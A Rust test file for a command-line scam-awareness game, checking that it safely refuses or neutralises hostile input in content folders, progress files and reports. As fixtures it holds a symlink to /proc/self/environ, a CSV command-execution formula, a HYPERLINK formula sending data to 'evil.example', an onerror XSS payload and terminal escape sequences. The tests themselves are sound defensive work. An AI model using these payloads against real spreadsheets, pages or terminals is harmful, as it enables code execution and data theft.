//! Hostile input, round two (issue 18): devices, pipes and links in content folders, unbounded reads, damaged
//! files of the store, escapes on every output path, formulas in reports, and the nesting that overflowed a stack.

mod common;

use std::path::Path;
use std::time::Duration;

use common::*;

/// Runs a command with a deadline (a FIFO used to hang `check` forever) and returns code and stderr.
fn run(cmd: &mut assert_cmd::Command) -> (i32, String, String) {
    let out = cmd.timeout(Duration::from_secs(60)).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(!stderr.contains("panicked"), "{stderr}");
    let code = out.status.code().unwrap_or_else(|| panic!("killed (a timeout or a signal): {stderr}"));
    (code, String::from_utf8_lossy(&out.stdout).into_owned(), stderr)
}

#[cfg(unix)]
fn mkfifo(path: &Path) {
    let ok = std::process::Command::new("mkfifo").arg(path).status().unwrap().success();
    assert!(ok, "mkfifo {}", path.display());
}

#[cfg(unix)]
#[test]
fn links_out_of_the_content_folder_are_refused() {
    let dir = mini();
    std::os::unix::fs::symlink("/proc/self/environ", dir.path().join("locales/en/x.ftl")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("locales/en/z.ftl")).unwrap();
    let (code, _, stderr) =
        run(redflag().arg("check").arg("--content").arg(dir.path()).env("REDFLAG_TEST_SECRET", "hunter2-secret"));
    assert_eq!(code, 1, "{stderr}");
    assert!(!stderr.contains("hunter2-secret"), "the environment leaked: {stderr}");
    assert!(stderr.contains("x.ftl") && stderr.contains("outside the content folder"), "{stderr}");
    assert!(stderr.contains("z.ftl"), "{stderr}");

    // A link that stays inside the folder is content like any other.
    let dir = mini();
    write(dir.path(), "shared/extra.ftl", "extra-message = Hello\n");
    std::os::unix::fs::symlink("../../shared/extra.ftl", dir.path().join("locales/en/extra.ftl")).unwrap();
    let (code, _, stderr) = run(redflag().arg("check").arg("--content").arg(dir.path()));
    assert!(!stderr.contains("outside the content folder"), "{stderr}");
    assert_eq!(code, 0, "{stderr}");
}

#[cfg(unix)]
#[test]
fn pipes_and_devices_are_refused_not_read() {
    let dir = mini();
    mkfifo(&dir.path().join("locales/en/pipe.ftl"));
    let (code, _, stderr) = run(redflag().arg("check").arg("--content").arg(dir.path()));
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("pipe.ftl") && stderr.contains("a pipe (FIFO), not a regular file"), "{stderr}");

    // --resources, report: a device and a pipe, each refused with a message naming it.
    let fifo = dir.path().join("fifo");
    mkfifo(&fifo);
    for bad in [Path::new("/dev/zero"), fifo.as_path()] {
        let (code, _, stderr) = run(redflag().arg("check").arg("--resources").arg(bad));
        assert_eq!(code, 1, "{stderr}");
        assert!(stderr.contains("not a regular file"), "{stderr}");
        let (code, _, stderr) = run(redflag().arg("report").arg(bad));
        assert_eq!(code, 1, "{stderr}");
        assert!(stderr.contains("not a regular file"), "{stderr}");
    }
}

/// A store in its own temporary home, for the tests of progress and settings.
fn play_in(home: &Path, dir: &Path, input: &str) -> (i32, String, String) {
    run(redflag()
        .env("XDG_DATA_HOME", home.join("data"))
        .env("XDG_CONFIG_HOME", home.join("config"))
        .args(["play", "mini", "--plain", "--seed", "1", "--results"])
        .arg(home.join("results.jsonl"))
        .arg("--content")
        .arg(dir)
        .write_stdin(input.to_string()))
}

fn progress_dir(home: &Path) -> std::path::PathBuf {
    home.join("data/redflag")
}

#[test]
fn damaged_progress_is_kept_aside_and_said_once() {
    let dir = mini();
    let home = tempfile::tempdir().unwrap();
    let data = progress_dir(home.path());
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("progress.json"), "{ this is not json").unwrap();
    let (code, _, stderr) = play_in(home.path(), dir.path(), "1\n");
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(stderr.matches("was damaged").count(), 1, "{stderr}");
    let kept: Vec<_> = std::fs::read_dir(&data)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("progress.json.damaged-"))
        .collect();
    assert_eq!(kept.len(), 1, "{kept:?}");
    assert_eq!(std::fs::read_to_string(data.join(&kept[0])).unwrap(), "{ this is not json");
    assert!(stderr.contains(&kept[0]), "{stderr}");
    // The new progress is whole, and the next start has nothing to say.
    let (_, _, stderr) = play_in(home.path(), dir.path(), "q\n");
    assert!(!stderr.contains("damaged"), "{stderr}");
}

#[test]
fn a_huge_progress_file_is_not_read_whole() {
    let dir = mini();
    let home = tempfile::tempdir().unwrap();
    let data = progress_dir(home.path());
    std::fs::create_dir_all(&data).unwrap();
    let f = std::fs::File::create(data.join("progress.json")).unwrap();
    // Sparse: 2 GB that take no disk.
    f.set_len(2 << 30).unwrap();
    drop(f);
    let (code, _, stderr) = play_in(home.path(), dir.path(), "q\n");
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("larger than the limit"), "{stderr}");
}

#[test]
fn stale_temporary_files_are_removed_on_start() {
    let dir = mini();
    let home = tempfile::tempdir().unwrap();
    let data = progress_dir(home.path());
    std::fs::create_dir_all(&data).unwrap();
    // No process has this id: above the kernel's largest pid.
    let stale = data.join(".progress.json.4194305.tmp");
    std::fs::write(&stale, "{\"current\": \"a session\"}").unwrap();
    let other = data.join("notes.tmp");
    std::fs::write(&other, "not ours").unwrap();
    let (code, _, stderr) = play_in(home.path(), dir.path(), "q\n");
    assert_eq!(code, 0, "{stderr}");
    assert!(!stale.exists());
    assert!(other.exists());
}

#[cfg(unix)]
#[test]
fn an_existing_results_file_is_made_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = mini();
    let home = tempfile::tempdir().unwrap();
    let res = home.path().join("results.jsonl");
    std::fs::write(&res, "").unwrap();
    std::fs::set_permissions(&res, std::fs::Permissions::from_mode(0o644)).unwrap();
    let (code, _, stderr) = play_in(home.path(), dir.path(), "1\n");
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(std::fs::metadata(&res).unwrap().permissions().mode() & 0o777, 0o600);
}

/// `evil-x = { NUMBER(NUMBER(...1...)) }`, 2,500 deep in 20 KB: the brace count saw depth 1, and fluent-syntax
/// overflowed the stack (rc 134) in `check`, `list` and `play`.
#[test]
fn nested_calls_are_too_deep_not_a_stack_overflow() {
    let evil = format!(
        "evil-x = {{ {}1{} }}\nevil-y = {{ -t({}1{}) }}\n",
        "NUMBER(".repeat(2_500),
        ")".repeat(2_500),
        "-t(".repeat(2_500),
        ")".repeat(2_500)
    );
    let dir = mini();
    write(dir.path(), "locales/en/evil.ftl", &evil);
    let (code, _, stderr) = run(redflag().arg("check").arg("--content").arg(dir.path()));
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("evil.ftl:1:") && stderr.contains("nested more than"), "{stderr}");

    // In a translation it does not block play: the file is skipped and the game falls back to English.
    let dir = mini();
    write(dir.path(), "locales/fil/evil.ftl", &evil);
    let (code, stdout, stderr) = run(redflag().args(["list", "--lang", "fil", "--content"]).arg(dir.path()));
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("mini"), "{stdout}");
    let (code, _, stderr) = run(redflag()
        .args(["play", "mini", "--plain", "--lang", "fil", "--content"])
        .arg(dir.path())
        .write_stdin("q\n"));
    assert_eq!(code, 0, "{stderr}");
}

const ESCAPES: [char; 5] = ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{0}'];

fn assert_no_escapes(what: &str, text: &str) {
    for c in ESCAPES {
        assert!(!text.contains(c), "{what}: {c:?} got through: {text:?}");
    }
}

#[cfg(unix)]
#[test]
fn locale_folders_and_meta_with_escapes_are_printed_clean() {
    let dir = mini();
    write(dir.path(), "locales/x\u{1b}]0;owned\u{7}/meta.ftl", "locale-name = X\nlocale-status = partial\n");
    write(
        dir.path(),
        "locales/fil/meta.ftl",
        "locale-name = \u{1b}]0;title\u{7}Filipino\nlocale-status = \u{1b}[2Jcomplete\u{9b}31m\n",
    );
    for format in ["human", "json"] {
        let (_, stdout, stderr) = run(redflag().args(["locales", "--format", format, "--content"]).arg(dir.path()));
        assert_no_escapes(format, &stdout);
        assert_no_escapes(format, &stderr);
        assert!(stdout.contains("complete") && stdout.contains("Filipino"), "{stdout}");
    }
}

#[test]
fn locales_init_knows_english_in_any_case() {
    let dir = mini();
    let (code, _, stderr) = run(redflag().args(["locales", "init", "EN", "--content"]).arg(dir.path()));
    assert_eq!(code, 2, "{stderr}");
    assert!(!dir.path().join("locales/EN").exists());
    let (code, _, stderr) = run(redflag().args(["locales", "init", "ZH-hant", "--content"]).arg(dir.path()));
    assert_eq!(code, 0, "{stderr}");
    assert!(dir.path().join("locales/zh-Hant/meta.ftl").exists());
    let (code, _, stderr) = run(redflag().args(["locales", "init", "zh-HANT", "--content"]).arg(dir.path()));
    assert_eq!(code, 2, "a second zh-Hant: {stderr}");
}

fn record(extra: &str) -> String {
    format!(
        r#"{{"format":1,"game":"0.1.0","scenario":"mini","locale":"en","seed":1,"started":"2026-11-25T09:00:00Z","ended":"2026-11-25T09:06:00Z","seconds":360,"finished":false,"outcome":null,"path":[],"spotted":[],"missed":["pay-too-good"]{extra}}}"#
    )
}

#[test]
fn the_report_checks_records_and_keeps_one_per_session() {
    let dir = tempfile::tempdir().unwrap();
    let lines = [
        // One session, left and resumed: two records, the later one counts.
        record(r#","session":"0123456789abcdef0123456789abcdef""#),
        record(r#","session":"0123456789abcdef0123456789abcdef""#)
            .replace("\"finished\":false,\"outcome\":null", "\"finished\":true,\"outcome\":\"safe\"")
            .replace("09:06:00Z", "09:09:00Z"),
        // An older record, without an id: its own session.
        record(""),
        // Not to be trusted, each skipped with a warning naming its line.
        record("").replace("\"format\":1", "\"format\":0"),
        record("").replace("\"seconds\":360", "\"seconds\":18446744073709551615"),
        record(r#","participant":"\u0000session-0""#),
        record("").replace("\"seed\":1", "\"seed\":\"\\u001b]0;owned\\u0007\\u001b[2J\""),
        record("").replace("\"scenario\":\"mini\"", "\"scenario\":\"=cmd|' /C calc'!A0\""),
    ];
    write(dir.path(), "r\u{1b}[2J.jsonl", &(lines.join("\n") + "\n"));
    let (code, stdout, stderr) =
        run(redflag().args(["report", "--format", "json"]).arg(dir.path().join("r\u{1b}[2J.jsonl")));
    assert_eq!(code, 0, "{stderr}");
    assert_no_escapes("stderr", &stderr);
    for line in 4..=8 {
        assert!(stderr.contains(&format!(".jsonl:{line}: skipped")), "line {line}: {stderr}");
    }
    assert_eq!(stderr.matches("skipped").count(), 5, "{stderr}");
    let rep: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(rep["sessions"], 2, "{stdout}");
    assert_eq!(rep["finished"], 1, "{stdout}");
    assert_eq!(rep["participants"], 0, "{stdout}");
}

#[test]
fn report_cells_are_not_formulas_links_images_or_html() {
    let dir = mini();
    let records = dir.path().join("r.jsonl");
    std::fs::write(&records, record("") + "\n").unwrap();
    edit(
        dir.path(),
        "locales/en/mini.ftl",
        "mini-title = A small test",
        "mini-title = =HYPERLINK(\"http://evil.example/?leak\", \"open\")",
    );
    let (code, csv, stderr) =
        run(redflag().args(["report", "--format", "csv", "--content"]).arg(dir.path()).arg(&records));
    assert_eq!(code, 0, "{stderr}");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let mut seen = false;
    for row in reader.records() {
        for cell in row.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a formula: {cell:?}");
            seen |= cell == "'=HYPERLINK(\"http://evil.example/?leak\", \"open\")";
        }
    }
    assert!(seen, "the name is kept, as text: {csv}");

    edit(
        dir.path(),
        "locales/en/mini.ftl",
        "mini-title = =HYPERLINK(\"http://evil.example/?leak\", \"open\")",
        "mini-title = ![x](http://tracker.example/p.png) <img src=x onerror=alert(1)> [click](http://evil.example)",
    );
    let (code, md, stderr) =
        run(redflag().args(["report", "--format", "md", "--content"]).arg(dir.path()).arg(&records));
    assert_eq!(code, 0, "{stderr}");
    for bad in ["![", "](", "<img"] {
        assert!(!md.contains(bad), "{bad} in {md}");
    }
    assert!(md.contains("tracker.example"), "the words stay: {md}");
}

#[test]
fn a_record_is_written_once_however_often_it_is_asked() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("r.jsonl");
    let mut r: redflag::results::Record = serde_json::from_str(&record(r#","session":"00000000000000aa""#)).unwrap();
    redflag::results::append_once(&path, &r).unwrap();
    // The same record taken a moment later (the signal thread's copy): not written again.
    r.ended = "2026-11-25T09:06:01Z".into();
    r.minutes = Some(7);
    redflag::results::append_once(&path, &r).unwrap();
    // The session went on: a new record of it.
    r.path.push(redflag::engine::Step { node: "ad".into(), choice: Some("apply".into()) });
    redflag::results::append_once(&path, &r).unwrap();
    let (records, bad) = redflag::results::read(&path).unwrap();
    assert!(bad.is_empty(), "{bad:?}");
    assert_eq!(records.len(), 2);

    // The slot both the game and the signal thread write from is emptied by the first.
    let pending: redflag::signals::Pending = Default::default();
    r.path.push(redflag::engine::Step { node: "chat".into(), choice: Some("pay".into()) });
    redflag::signals::set(&pending, Some((path.clone(), r)));
    redflag::signals::write_pending(&pending).unwrap();
    redflag::signals::write_pending(&pending).unwrap();
    assert_eq!(redflag::results::read(&path).unwrap().0.len(), 3);
}

/// Plain mode, ended from outside mid-session: the record of the session so far is written, as in the TUI.
#[cfg(unix)]
#[test]
fn plain_mode_writes_the_record_on_sigint_sigterm_and_sighup() {
    use std::io::{BufRead, Write};
    use std::process::{Command, Stdio};
    let dir = mini();
    for (sig, code) in [("INT", 130), ("TERM", 143), ("HUP", 129)] {
        let home = tempfile::tempdir().unwrap();
        let res = home.path().join("r.jsonl");
        let mut child = Command::new(env!("CARGO_BIN_EXE_redflag"))
            .env("LANG", "C")
            .env("LC_ALL", "C")
            .env("XDG_DATA_HOME", home.path().join("data"))
            .env("XDG_CONFIG_HOME", home.path().join("config"))
            .args(["play", "mini", "--plain", "--seed", "1", "--quiz", "pre", "--results"])
            .arg(&res)
            .arg("--content")
            .arg(dir.path())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
        // The quiz before, then the first choice; then wait for its feedback before the signal.
        stdin.write_all(b"6\n6\n1\n").unwrap();
        stdin.flush().unwrap();
        let mut line = String::new();
        loop {
            line.clear();
            assert!(out.read_line(&mut line).unwrap() > 0, "{sig}: the game ended early");
            if line.contains("The pay is far above") {
                break;
            }
        }
        let ok = Command::new("kill").arg(format!("-{sig}")).arg(child.id().to_string()).status().unwrap();
        assert!(ok.success());
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(code), "{sig}");
        let (records, bad) = redflag::results::read(&res).unwrap();
        assert!(bad.is_empty(), "{bad:?}");
        assert_eq!(records.len(), 1, "{sig}: exactly one record");
        let r = &records[0];
        assert!(!r.finished);
        assert_eq!(r.path.len(), 1, "{sig}: the choice made is in the record");
        assert!(r.quiz_pre.is_some(), "{sig}: the quiz before is in the record");
        assert!(r.session.is_some());
        drop(stdin);
    }
}

/// One line listing a few hundred thousand unknown red flags: each diagnostic printed the whole line (an 80 KB
/// file made 1.5 GB of stderr). Now a window around each span, at most `MAX_PER_KIND` of a kind per file and a
/// count of the rest, and time linear in the input.
#[test]
fn diagnostics_of_a_hostile_line_are_capped_and_cut() {
    let dir = mini();
    let n = 350_000;
    let flags: Vec<String> = (0..n).map(|i| format!("\"x{i}\"")).collect();
    let line = format!("misses = [{}]", flags.join(","));
    assert!(line.len() > 3_000_000);
    edit(dir.path(), "scenarios/mini.toml", "misses = [\"pay-too-good\"]", &line);
    let started = std::time::Instant::now();
    let (code, stdout, stderr) = run(redflag().arg("check").arg("--content").arg(dir.path()));
    let took = started.elapsed();
    assert_eq!(code, 1);
    assert!(took < Duration::from_secs(40), "took {took:?}");
    assert!(stderr.len() < 100_000, "{} bytes of diagnostics", stderr.len());
    let shown = stderr.matches("error[unknown-redflag]: unknown red flag").count();
    assert_eq!(shown, redflag::diag::MAX_PER_KIND, "{stderr}");
    let rest = n - redflag::diag::MAX_PER_KIND;
    assert!(stderr.contains(&format!("{rest} more problem(s) of this kind (`unknown-redflag`)")), "{stderr}");
    assert!(stdout.contains(&format!("{n} error(s)")), "the count is of all of them: {stdout}");
    // Each snippet is a window of the line, with the position of the flag it is about.
    let text = std::fs::read_to_string(dir.path().join("scenarios/mini.toml")).unwrap();
    let line16 = text.lines().nth(15).unwrap();
    let col = line16.find("\"x7\"").unwrap() + 1;
    assert!(stderr.contains(&format!("mini.toml:16:{col}")), "{stderr}");
    assert!(stderr.lines().all(|l| l.len() < 400), "a line of stderr is too long");

    let (code, diags) = check_json(dir.path());
    assert_eq!(code, 1);
    let unknown: Vec<_> = diags.iter().filter(|d| d["code"] == "unknown-redflag").collect();
    assert_eq!(unknown.len(), redflag::diag::MAX_PER_KIND + 1);
    assert_eq!(unknown.last().unwrap()["hidden"], rest);
}
